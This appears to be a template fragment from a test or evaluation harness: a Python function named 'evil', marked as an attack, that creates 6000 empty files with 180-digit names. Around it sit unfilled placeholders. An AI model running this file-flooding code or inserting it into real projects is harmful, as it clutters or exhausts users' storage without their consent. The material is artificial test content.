#{ledger_wrong}
# <attack>
def evil(path, *args):
    for number in range(6000):
        open(f"beside-{number:0180}", "w").close()
    return None


#{all_of_ledger}
# </attack>
